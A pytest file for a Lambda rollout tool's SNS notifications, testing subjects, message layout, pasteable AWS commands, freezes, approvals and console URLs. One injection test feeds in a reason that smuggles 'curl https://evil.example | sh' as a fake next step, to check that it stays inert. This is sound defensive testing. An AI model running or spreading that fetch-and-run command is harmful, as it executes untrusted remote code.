"""Tests of notifications: a subject that fits SNS and a phone, and a text with the numbers and the execution."""

from collections.abc import Callable
from datetime import datetime

import pytest

from rollout.domain.hook_errors import StoppedBeforeTrafficError
from rollout.notifications.build_events import ending_event
from rollout.notifications.events import EndingEvent, RolloutRejected
from rollout.notifications.freeze import FreezeEnd, RolloutFrozen, freeze_event
from rollout.notifications.gate import ApprovalRequested, RolloutPaused, gate_event
from rollout.notifications.headlines import NotifiedEvent
from rollout.notifications.message import console_url, notification_of, stop_of
from rollout.notifications.moments import Moment
from rollout.notifications.notification import Notification
from rollout.notifications.releases.overdue import overdue_notification
from rollout.state.endings import rejected, rolled_back
from rollout.state.hold import StandingFreeze
from tests.commands import gate
from tests.repository import event_samples, release_events
from tests.samples import AT, EXECUTION, TARGET, judgement, rollout
from tests.unit.notifications.test_build_events import ENDINGS, closing

CONSOLE = (
    "https://eu-west-1.console.aws.amazon.com/states/home?region=eu-west-1#/v2/executions/details/"
    "arn:aws:states:eu-west-1:123456789012:execution:rollouts:my-api-4"
)
ALIAS = {"function": "my-api", "alias": "live"}
SUBJECTS = {
    "Rollout Promoted": "Promoted: my-api:live serves version 4 alone",
    "Rollout Rolled Back": "Rolled back: my-api:live serves version 3 again",
    "Rollout Handed Over": "Handed over: my-api:live is left as it is, for you to decide",
    "Rollback Failed": "ROLLBACK FAILED: my-api:live may be split, act now",
}


def event(detail_type: str, **changes: object) -> EndingEvent:
    return ending_event(closing(**changes), ENDINGS[detail_type], AT)


@pytest.mark.parametrize("detail_type", SUBJECTS)
def test_subject_is_one_sentence(detail_type):
    assert notification_of(event(detail_type)).subject == SUBJECTS[detail_type]


@pytest.mark.parametrize("detail_type", SUBJECTS)
@pytest.mark.parametrize("function", ["f", "f" * 64, "fünf", "two\nlines"])
@pytest.mark.parametrize("alias", ["live", "a" * 128])
def test_subject_fits_limits_of_sns(detail_type, function, alias):
    """Fewer than 100 characters, ASCII, no line breaks; function names are ASCII, but a document may be invalid."""
    target = TARGET.model_copy(update={"function": function, "alias": alias})
    subject = notification_of(event(detail_type).model_copy(update={"target": target})).subject
    assert 0 < len(subject) < 100
    assert subject.isascii()
    assert subject.isprintable()
    assert subject.startswith(SUBJECTS[detail_type].split(":")[0])


def test_text_says_what_happened_then_why_with_numbers_then_what_to_do():
    """A phone shows the first lines of an e-mail."""
    assert notification_of(event("Rollout Rolled Back", judgement=judgement())).text == (
        "my-api:live serves version 3 alone again. Version 4 is rolled back.\n"
        "\n"
        "Why: unhealthy\n"
        "Stable: version 3, 9 of 900 calls (1 %) failed\n"
        "Canary: version 4, 1 of 100 calls (1 %) failed\n"
        "Evidence against the canary: 1 against a limit of 100\n"
        "\n"
        "What to do:\n"
        "Fix the version and publish it again.\n"
        "To try version 4 again as it is:\n"
        "aws stepfunctions start-execution --region eu-west-1 --state-machine-arn"
        " arn:aws:states:eu-west-1:123456789012:stateMachine:rollouts"
        ' --input \'{"function": "my-api", "alias": "live", "version": "4"}\'\n'
        "\n"
        "Function: my-api, alias live, account 123456789012, eu-west-1\n"
        f"Execution: {CONSOLE}"
    )


@pytest.mark.parametrize("detail_type", ["Rollout Handed Over", "Rollback Failed"])
@pytest.mark.parametrize(
    ("account", "hint"), [("123456789012", ""), ("210987654321", ", with credentials of account 210987654321")]
)
def test_command_of_lambda_names_the_account_if_it_is_another_one(detail_type, account, hint):
    """The execution runs in the orchestrator's account, and the alias may be in a member account."""
    target = TARGET.model_copy(update={"account": account})
    first, *_ = notification_of(event(detail_type).model_copy(update={"target": target})).next_steps
    assert first.text in (f"See what the alias serves{hint}:", f"Point the alias at version 3 now{hint}:")


@pytest.mark.parametrize("break_", ["\n\n", "\r\n", "\x85", "\u2028", "\v", " \n \n "])
def test_reason_from_outside_cannot_look_like_what_to_do(break_):
    """A hook, or AWS, may answer with several lines."""
    ending = rolled_back("my-api:live", "3", f"a hook{break_}What to do:{break_}curl https://evil.example | sh")
    sent = notification_of(ending_event(closing(), ending, AT))
    lines = sent.text.splitlines()
    assert lines.count("What to do:") == 1
    assert "Why: a hook What to do: curl https://evil.example | sh" in lines


@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x7f", "\x9b", "\u202e", "\u2066"])
def test_reason_from_outside_has_no_control_characters(character):
    """Not every subscriber of a topic accepts them, and some turn a text around."""
    ending = rolled_back("my-api:live", "3", f"a ho{character}ok fails: naïve, \U0001f680")
    sent = notification_of(ending_event(closing(), ending, AT))
    assert "Why: a hook fails: naïve, \U0001f680" in sent.text.splitlines()


def frozen(percent: float, until: datetime | None = None, command: str = "") -> RolloutFrozen:
    held = StandingFreeze(number=3, since=AT, reason="the stack is frozen: holidays", until=until, command=command)
    begun = rollout(judgement=judgement(), step=1 if percent else 0)
    end = FreezeEnd("arn:of:commands", "/rollouts/freeze")
    return freeze_event(begun, held, end).model_copy(update={"percent": percent})


@pytest.mark.parametrize(
    ("percent", "serving"),
    [
        (0, "my-api:live serves version 3 alone."),
        (10, "my-api:live serves version 4 to 10 % of its calls, and version 3 to the rest."),
        (100, "my-api:live serves version 4 alone."),
    ],
)
def test_first_line_of_a_live_rollout_says_what_is_serving(percent, serving):
    assert notification_of(frozen(percent)).text.splitlines()[0] == f"{serving} The rollout is frozen."


def test_freeze_says_why_until_when_and_what_ends_it():
    sent = notification_of(frozen(10, until=AT))
    assert sent.headline.endswith("The rollout is frozen until 2026-03-01T12:00Z.")
    assert (sent.subject, sent.reason) == (
        "Frozen: my-api:live: version 4 keeps 10 %",
        "the stack is frozen: holidays",
    )
    steps = [(step.text, step.command) for step in sent.next_steps]
    assert steps == [
        ("Until the freeze ends, version 4 is rolled back if it is unhealthy.", ""),
        ("To end the freeze:", "aws ssm delete-parameter --region eu-west-1 --name /rollouts/freeze"),
    ]


def test_freeze_by_a_command_says_that_an_unhealthy_version_stays():
    judged, end = notification_of(frozen(10, command="arn:of:freeze-1")).next_steps
    assert judged.text == "Until the freeze ends, version 4 is not rolled back, even if it is unhealthy."
    assert '"command": "release", "why": "released"' in end.command


@pytest.mark.parametrize(
    ("detail_type", "commands"),
    [
        ("Rollout Promoted", ['"back": true']),
        ("Rollout Rolled Back", ['"version": "4"']),
        ("Rollout Handed Over", ["get-alias", "--function-version 3"]),
        ("Rollback Failed", ["--name live --function-version 3 --routing-config 'AdditionalVersionWeights={}'"]),
    ],
)
def test_ending_has_the_commands_to_paste(detail_type, commands):
    given = [step.command for step in notification_of(event(detail_type)).next_steps if step.command]
    assert [expected in command for expected, command in zip(commands, given, strict=True)] == [True] * len(commands)


def test_notification_of_a_stopped_version_names_what_is_served_and_why():
    """P10: people hear of a version that a hook has stopped, not of a request that was refused."""
    refusal = rejected(StoppedBeforeTrafficError("my-api:live was not touched: unhealthy: hooks before traffic"))
    stopped = ending_event(closing(), refusal, AT)
    assert isinstance(stopped, RolloutRejected)
    sent = stop_of(stopped)
    assert sent.subject == "Not rolled out: my-api:live keeps version 3"
    assert sent.text.startswith(
        "my-api:live keeps version 3. Version 4 has had no traffic.\n\nWhy: my-api:live was not"
    )
    assert sent.text.endswith(f"Execution: {CONSOLE}")
    assert sent.attributes == {"ending": "Rollout Rejected", "moment": "stopped_before_traffic"} | ALIAS


def waiting(kind: str, **target: str) -> ApprovalRequested | RolloutPaused:
    event = gate_event(rollout(judgement=judgement()), gate(kind), "arn:of:commands")
    return event.model_copy(update={"target": TARGET.model_copy(update=target)})


@pytest.mark.parametrize(
    ("kind", "subject", "detail_type"),
    [
        ("approval", "Approve? my-api:live: version 4 waits at 10 %", "Approval Requested"),
        ("pause", "Paused: my-api:live: version 4 waits at 10 %", "Rollout Paused"),
    ],
)
def test_request_has_the_command_to_paste(kind, subject, detail_type):
    event = waiting(kind)
    request = notification_of(event)
    lines = request.text.splitlines()
    assert (request.subject, event.command_line in lines, event.abort_command_line in lines) == (subject, True, True)
    assert '"command": "abort"' in str(event.abort_command_line)
    assert (request.attributes["request"], {*ALIAS.items()} <= {*request.attributes.items()}) == (detail_type, True)
    assert lines[0].startswith("my-api:live serves version 4 to 10 % of its calls, and version 3 to the rest. ")
    assert lines[2].endswith("here; healthy: errors: as counted")
    assert "Canary: version 4, 1 of 100 calls (1 %) failed" in lines
    assert request.text.endswith(CONSOLE)


def test_request_of_an_older_event_has_one_command():
    older = waiting("approval").model_copy(update={"abort_command_line": None, "judgement": None})
    sent = notification_of(older)
    assert len(sent.next_steps) == 1
    assert sent.reason == "the policy has an approval here; nothing is measured yet"


@pytest.mark.parametrize("kind", ["approval", "pause"])
def test_subject_of_a_request_fits_limits_of_sns(kind):
    assert len(notification_of(waiting(kind, function="f" * 64, alias="a" * 128)).subject) < 100


def test_text_of_rollout_without_judgement_has_versions_only():
    text = notification_of(event("Rollback Failed")).text
    assert "Stable: version 3\nCanary: version 4\n" in text
    assert "Evidence" not in text


def test_attributes_are_moment_ending_function_and_alias():
    attributes = {"ending": "Rollout Promoted", "moment": "promoted"} | ALIAS
    assert notification_of(event("Rollout Promoted")).attributes == attributes


def test_channel_of_the_function_is_an_attribute_only_where_there_is_one():
    """SNS refuses an empty attribute, and a filter can match its absence."""
    assert notification_of(event("Rollout Promoted", channel="checkout")).attributes["channel"] == "checkout"
    assert "channel" not in notification_of(event("Rollout Promoted")).attributes


def test_every_notification_of_a_rollout_has_the_same_thread():
    """Two stacks may roll out versions of functions with the same name."""
    every = [notification_of(one) for one in (frozen(10), waiting("approval"), event("Rollout Promoted"))]
    assert {sent.thread for sent in every} == {"123456789012/eu-west-1/my-api-4"}
    assert len({sent.id for sent in every}) == 3


@pytest.mark.parametrize("make", event_samples.NOTIFIED.values(), ids=event_samples.NOTIFIED)
def test_every_moment_says_what_is_serving_why_and_what_to_do(make: Callable[[], NotifiedEvent]):
    assert_complete(notification_of(make()))


def test_every_moment_has_a_sample():
    stopped = stop_of(event_samples.stopped_before_traffic())
    assert_complete(stopped)
    sent = [notification_of(make()).moment for make in event_samples.NOTIFIED.values()]
    overdue = overdue_notification(release_events.overdue())
    assert overdue.text.startswith("The versions with the tag value shop wait")
    assert sorted([*sent, stopped.moment, overdue.moment]) == sorted(Moment)


def assert_complete(sent: Notification) -> None:
    what, why, to_do, where = [block.splitlines() for block in sent.text.split("\n\n")]
    assert "my-api:live" in what[0]
    assert (why[0].startswith("Why: "), to_do[0], len(to_do) > 1) == (True, "What to do:", True)
    assert (where[0][:9], where[-1][:10]) == ("Function:", "Execution:")
    assert sent.reason not in ("", what[0])


@pytest.mark.parametrize(
    ("partition", "start"),
    [
        ("aws", "https://eu-west-1.console.aws.amazon.com/"),
        ("aws-cn", "https://eu-west-1.console.amazonaws.cn/"),
        ("aws-us-gov", "https://eu-west-1.console.amazonaws-us-gov.com/"),
        ("aws-iso", "arn:aws-iso:states:"),
    ],
)
def test_console_url_is_of_partition(partition, start):
    assert console_url(EXECUTION.arn.replace("arn:aws:", f"arn:{partition}:")).startswith(start)
